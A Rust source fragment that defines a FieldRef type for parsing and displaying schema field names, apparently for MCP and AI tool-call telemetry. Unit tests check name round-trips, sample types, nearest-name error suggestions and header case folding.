#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub enum FieldRef {
    /// A row of the table.
    Field(Field),
    /// A member of a family.
    Member(Family, SmolStr),
}

impl FieldRef {
    /// The phase at whose end it is final.
    #[must_use]
    pub fn phase(&self) -> Phase {
        match self {
            FieldRef::Field(field) => field.info().phase,
            FieldRef::Member(family, _) => family.phase(),
        }
    }
    /// The channels that can fill it.
    #[must_use]
    pub fn channels(&self) -> &'static [Channel] {
        match self {
            FieldRef::Field(field) => field.info().channels,
            FieldRef::Member(family, _) => family.channels(),
        }
    }
    /// Evidence or outcome.
    #[must_use]
    pub fn role(&self) -> Role {
        match self {
            FieldRef::Field(field) => field.info().role,
            FieldRef::Member(..) => Role::Evidence,
        }
    }
}

impl fmt::Display for FieldRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FieldRef::Field(field) => f.write_str(field.name()),
            FieldRef::Member(family, member) => write!(f, "{}{member}", family.prefix()),
        }
    }
}

impl FromStr for FieldRef {
    type Err = UnknownField;
    fn from_str(name: &str) -> Result<Self, UnknownField> {
        for family in Family::ALL {
            if let Some(member) = name.strip_prefix(family.prefix()).filter(|m| !m.is_empty()) {
                let member = if family == Family::Argument { SmolStr::new(member) } else { SmolStr::new(member.to_ascii_lowercase()) };
                return Ok(FieldRef::Member(family, member));
            }
        }
        name.parse().map(FieldRef::Field)
    }
}

/// The known name nearest to `name`, if it is near enough to be a slip of the pen.
fn nearest(name: &str) -> Option<String> {
    gnomon_kit::nearest(name, FIELDS.iter().map(|info| info.name), 0.85).map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_name_stands_once_and_leads_back_to_its_field() {
        for field in Field::all() {
            assert_eq!(field.name().parse::<Field>(), Ok(field));
        }
        assert_eq!(FIELD_COUNT, BY_ROW.len());
    }

    #[test]
    fn every_sample_has_the_type_of_its_field() {
        for info in FIELDS {
            let sample: serde_json::Value = serde_json::from_str(info.sample).unwrap_or_else(|e| panic!("{}: {e}", info.name));
            let fits = match info.kind {
                FieldType::Str => sample.is_string(),
                FieldType::Int => sample.is_i64(),
                FieldType::Bool => sample.is_boolean(),
                FieldType::List => sample.as_array().is_some_and(|a| a.iter().all(serde_json::Value::is_string)),
            };
            assert!(fits, "{}", info.name);
        }
    }

    #[test]
    fn a_slip_of_the_pen_is_answered_with_the_nearest_name() {
        let error = "mcp.method".parse::<Field>().unwrap_err();
        assert_eq!(error.to_string(), "unknown field `mcp.method`; did you mean `mcp.method.name`?");
        assert_eq!("zebra".parse::<Field>().unwrap_err().nearest, None);
    }

    #[test]
    fn header_names_are_folded_and_argument_paths_are_not() {
        let header: FieldRef = "http.request.header.Mcp-Name".parse().unwrap();
        assert_eq!(header.to_string(), "http.request.header.mcp-name");
        let argument: FieldRef = "gen_ai.tool.call.arguments.Path".parse().unwrap();
        assert_eq!(argument, FieldRef::Member(Family::Argument, "Path".into()));
        assert_eq!("gen_ai.tool.call.arguments".parse(), Ok(FieldRef::Field(Field::ToolArguments)));
    }
}
